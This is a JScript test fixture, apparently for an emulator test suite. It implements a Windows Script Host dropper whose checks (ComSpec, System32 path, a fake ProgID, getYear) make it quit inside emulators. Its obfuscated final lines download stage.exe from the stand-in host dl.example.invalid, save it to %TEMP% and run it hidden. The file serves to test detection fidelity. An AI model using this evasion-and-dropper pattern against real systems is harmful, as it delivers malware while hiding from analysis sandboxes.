// jscript-host-checks.js - written for tests/emu/run.sh: a download-and-run that reaches its
// payload only where JScript and a real Windows Script Host answer as they do on Windows.
// Each check below stops the script in an emulator that answers otherwise. Inert: the URL
// is example.invalid and the "payload" is never real.
function gate() {
    var w = this["WS" + "cript"];
    // the SYSTEM environment holds the unexpanded registry value
    var env = w["CreateObject"]("WScript.Shell")["Environment"]("SYSTEM");
    if (env("ComSpec") != "%SystemRoot%\\system32\\cmd.exe") w.Quit(1);
    // WScript.Path is System32
    if (w.Path.charAt(w.Path.length - 1) != "2") w.Quit(2);
    // a ProgID that does not exist must fail
    var fake = false;
    try { w.CreateObject("abc"); fake = true; } catch (e) { fake = false; }
    if (fake) w.Quit(3);
    // JScript's getYear is the full year
    if (new Date().getYear() < 2000) w.Quit(4);
}
gate();
// expressions the name rule must leave valid: a negated IIFE, a comparison
!function start() {}();
var same = 1 == function cmp() {} ? 0 : 1;
// a function expression's name is bound outside it; a dotted function name is a method
var holder = (function box() {}, 1);
var code = "/*@cc_on function box.g(){ return []['constructor']['prototype']['sort']['apply'](); } @*/";
eval(code);
var g = box.g();
var parts = [(function f() { return "Msxml2."; })(), (function f() { return 'XMLHTTP'; })()];
var x = g["WScript"]["CreateObject"](parts.join(""));
x.open("GET", "http://dl.example.invalid/stage.exe", false);
x.send();
var s = g["WScript"]["CreateObject"]("ADODB.Stream");
s.Open(); s.Type = 1; s.Write(x.responseBody);
var p = g["WScript"]["CreateObject"]("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\stage.exe";
s.SaveToFile(p, 2); s.Close();
g["WScript"]["CreateObject"]("WScript.Shell").Run(p, 0);
